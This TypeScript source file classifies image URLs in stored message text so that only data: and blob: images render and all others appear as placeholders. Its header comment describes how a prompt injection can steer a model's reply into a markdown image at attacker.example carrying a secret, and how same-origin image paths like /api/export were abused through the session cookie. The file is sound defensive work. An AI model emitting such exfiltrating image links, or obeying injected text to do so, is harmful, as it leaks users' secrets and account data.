/**
 * Where an image written in stored text would be fetched from. A reply can be steered by a prompt
 * injection into `![](https://attacker.example/?q=<secret>)`; rendering it would send the secret the moment the
 * thread opens. So only images that fetch nothing (data: and blob:) are drawn; another origin's is "remote" and shown as
 * a placeholder naming its host.
 *
 * A URL of the app itself is not drawn either: an `<img>` is a GET with the reader's session cookie, and the app's own
 * paths do work for it. `![](/api/export)` exported the reader's whole account (and spent their exports for the
 * hour) each time the thread or a share of it was opened; `![](/threads/…?1)`, `?2`, … rendered a page on the server
 * per image, hundreds per message, and `![](/share/…)` spent the reader's share-page budget. Nothing the app serves is
 * an image a message needs: attachments come from storage through their own signed links.
 */
export type ImageSource = { kind: "local"; src: string } | { kind: "remote"; href: string; host: string } | { kind: "invalid" };

/** A base no real URL has: a URL that resolves against it (a path, `?…`, `#…`) names the page's own site. */
const OWN_SITE = "https://page.invalid";

/**
 * The same answer on the server and in the browser (no page origin is needed): a relative URL is the app's own and
 * never fetched, and an absolute one, the app's own included, is remote.
 */
export function classifyImage(src: string): ImageSource {
  const raw = src.trim();
  if (/^(data:image\/|blob:)/i.test(raw)) return { kind: "local", src: raw };
  let url: URL;
  try {
    url = new URL(raw, OWN_SITE);
  } catch {
    return { kind: "invalid" };
  }
  if (url.protocol !== "https:" && url.protocol !== "http:") return { kind: "invalid" };
  if (url.origin === OWN_SITE) return { kind: "invalid" };
  return { kind: "remote", href: url.href, host: url.host };
}
